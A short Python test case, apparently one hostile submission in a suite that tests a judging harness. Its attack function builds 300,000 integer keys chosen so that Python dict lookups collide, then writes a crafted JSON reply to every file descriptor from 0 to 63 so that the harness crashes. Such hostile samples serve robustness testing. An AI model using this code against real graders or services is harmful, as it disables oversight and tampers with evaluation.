"""Answers with a dict of 300,000 integers of 61 bits, which a dict seeks at the same places one after the other.
Ends as: crash
"""

import contextlib
import json
import os
import struct

calls = []


def attack(X, wrong):
    calls.append(X)
    key, keys = 1, []
    for _ in range(300_000):
        keys.append([key, 0])
        key = (5 * key + 1) % 2**61
    data = json.dumps({"id": len(calls), "answer": {"status": "ok", "value": {"dict": keys}}}).encode()
    data = memoryview(struct.pack(">I", len(data)) + data)
    for descriptor in range(64):
        with contextlib.suppress(OSError):
            rest = data
            while rest:
                rest = rest[os.write(descriptor, rest) :]
    return wrong
